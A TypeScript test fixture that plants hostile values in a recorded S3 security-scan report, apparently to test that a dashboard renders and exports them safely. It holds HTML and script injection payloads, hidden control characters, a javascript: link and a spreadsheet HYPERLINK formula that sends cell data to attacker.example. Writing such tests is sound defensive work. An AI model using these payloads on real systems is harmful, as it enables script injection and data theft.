import { readFileSync, writeFileSync } from 'node:fs';
import { recorded } from './cli.ts';

/** Of the account whose owner wants to harm whoever looks at it. */
export const HOSTILE_ACCOUNT = '666666666666';

/** Sets `window.pwned` wherever it is taken for HTML; hides a right-to-left override, a bell and a zero-width space. */
const HOSTILE_MARKUP = '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>';
export const HOSTILE_NAME = `bucket"'>${HOSTILE_MARKUP}\u202Egnp\u0007\u200B`;
/** How the dashboard shows that name. */
export const HOSTILE_NAME_SHOWN = `bucket"'>${HOSTILE_MARKUP}\\u202egnp\\u0007\\u200b`;
export const FORMULA_NAME = '=HYPERLINK("http://attacker.example/?"&A1,"Total")';
export const HOSTILE_REFERENCE = 'javascript:window.pwned=1';
/** A check whose events the hostile bucket has. */
export const HOSTILE_CHECK = 's3-bucket-world-policy-star';

interface Report {
  services: {
    s3: {
      buckets: Record<string, { name: string }>;
      findings: Record<string, object>;
    };
  };
}

/** Writes recorded results as an attacker would have them: names of buckets, and the texts of a check. */
export function writeHostileResults(file: string): void {
  const text = readFileSync(recorded('222222222222', 1), 'utf8').replaceAll('222222222222', HOSTILE_ACCOUNT);
  const start = text.indexOf('{');
  const report = JSON.parse(text.slice(start)) as Report;
  const { buckets, findings } = report.services.s3;
  const names: Record<string, string> = { 'globex-public-policy': HOSTILE_NAME, 'globex-logs': FORMULA_NAME };
  for (const bucket of Object.values(buckets)) bucket.name = names[bucket.name] ?? bucket.name;
  Object.assign(findings[HOSTILE_CHECK] ?? {}, {
    description: `Title ${HOSTILE_MARKUP}`,
    rationale: `<p>Rationale ${HOSTILE_MARKUP}</p>`,
    remediation: `Remediation ${HOSTILE_MARKUP}`,
    references: [HOSTILE_REFERENCE, `https://example.com/"${HOSTILE_MARKUP}`],
  });
  writeFileSync(file, text.slice(0, start) + JSON.stringify(report));
}
